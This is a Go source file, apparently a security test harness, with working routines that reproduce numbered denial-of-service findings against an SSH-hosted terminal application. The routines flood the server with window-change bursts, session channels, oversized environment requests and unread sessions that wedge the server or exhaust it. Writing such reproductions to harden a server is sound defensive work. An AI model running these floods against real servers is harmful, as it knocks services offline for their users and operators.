package abuse

import (
	"context"
	"fmt"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"
)

// ResizeBurst is finding 2: a keyless session at 250x80 that stops
// reading its output once the post list is drawn sends n window changes in a burst (the sizes alternate, so
// each one is a full repaint), then drops the TCP connection without
// closing its channel, as a client that vanished does. On a server whose
// request loop waits for its program, the connection stays wedged.
func ResizeBurst(ctx context.Context, t Target, n int) error {
	client, conn, err := dial(ctx, t, nil)
	if err != nil {
		return err
	}
	defer conn.Close()
	sess, err := client.NewSession()
	if err != nil {
		return err
	}
	if err := startUnread(sess, 250, 80, "", t.wait()); err != nil {
		return err
	}
	// A server that stops reading the connection must not hold the burst
	// up for longer than one wait.
	_ = conn.SetWriteDeadline(time.Now().Add(t.wait()))
	for i := range n {
		if ctx.Err() != nil {
			break
		}
		w, h := 250-i%2, 80-i%3
		if _, err := sess.SendRequest("window-change", false, windowPayload(uint32(w), uint32(h))); err != nil {
			break // the server stopped reading: the point is made
		}
	}
	// The burst wedges a server once the channel window is full: it stops
	// reading the connection, so a keepalive sent after the burst is
	// never answered. A server that keeps up answers it at once; one that
	// is merely slow answers once it has worked through the burst. Leave
	// when it answers, or after two waits without an answer.
	answers(client, 2*t.wait())
	return conn.Close() // no channel close, no disconnect message
}

// answers reports whether the server replies to a keepalive within
// timeout.
func answers(client *ssh.Client, timeout time.Duration) bool {
	got := make(chan struct{})
	go func() {
		_, _, _ = client.SendRequest("keepalive@openssh.com", true, nil)
		close(got)
	}()
	select {
	case <-got:
		return true
	case <-time.After(timeout):
		return false
	}
}

// ChannelFlood is finding 6: up to n session channels on one keyless
// connection, each with a PTY and the interface, output read and thrown
// away. They stay open until Close.
func ChannelFlood(ctx context.Context, t Target, n int) (*Held, error) {
	client, _, err := dial(ctx, t, nil)
	if err != nil {
		return nil, err
	}
	h := &Held{}
	h.keep(client)
	for range n {
		if ctx.Err() != nil {
			break
		}
		sess, err := client.NewSession()
		if err != nil {
			h.Refused++
			continue
		}
		if err := startTUI(sess, 80, 24); err != nil {
			h.Refused++
			_ = sess.Close()
			continue
		}
		h.Opened++
		h.watch(sess)
	}
	return h, nil
}

// EnvFlood is finding 7: sessions keyless sessions, each sending requests
// env requests with values of size bytes before its PTY request. Half the
// names look like locale variables (LC_*), which a server may keep, so
// the count and size bounds are tried too. The sessions stay open until
// Close.
func EnvFlood(ctx context.Context, t Target, sessions, requests, size int) (*Held, error) {
	h := &Held{}
	value := strings.Repeat("v", size)
	for range sessions {
		client, _, err := dial(ctx, t, nil)
		if err != nil {
			h.Close()
			return nil, err
		}
		h.keep(client)
		sess, err := client.NewSession()
		if err != nil {
			h.Refused++
			continue
		}
		for i := range requests {
			if ctx.Err() != nil {
				h.Close()
				return nil, ctx.Err()
			}
			name := fmt.Sprintf("FLOOD_%d", i)
			if i%2 == 1 {
				name = fmt.Sprintf("LC_FLOOD_%d", i)
			}
			// A refusal is the server doing its job; keep sending.
			_ = sess.Setenv(name, value)
		}
		if err := startTUI(sess, 80, 24); err != nil {
			h.Refused++
			continue
		}
		h.Opened++
		h.watch(sess)
	}
	return h, nil
}

// UnreadSessions is finding 6's second half: n keyless sessions with a
// window w wide (a server clamps it) reading t.Slug that stop reading
// their output once the post is drawn. Until Close, each keeps changing its height
// every 5 ms, so that even clamped frames fill the channel window and the
// session's output cannot drain; a server that coalesces window changes
// does not repaint for them once it is stuck. The sessions stay open until
// Close or until the server closes them (see Held.Ended).
func UnreadSessions(ctx context.Context, t Target, n, w, h int) (*Held, error) {
	held := &Held{}
	for range n {
		client, _, err := dial(ctx, t, nil)
		if err != nil {
			held.Close()
			return nil, err
		}
		held.keep(client)
		sess, err := client.NewSession()
		if err != nil {
			held.Refused++
			continue
		}
		if err := startUnread(sess, w, h, t.Slug, t.wait()); err != nil {
			held.Refused++
			continue
		}
		held.Opened++
		ended := held.watch(sess)
		go func() {
			for i := 0; ; i++ {
				// Without a reply: a wedged server would hold a reply forever.
				if _, err := sess.SendRequest("window-change", false, windowPayload(uint32(w), uint32(h-i%2))); err != nil {
					return
				}
				select {
				case <-ctx.Done():
					return
				case <-ended:
					return
				case <-held.stopped():
					return
				case <-time.After(5 * time.Millisecond):
				}
			}
		}()
	}
	return held, nil
}
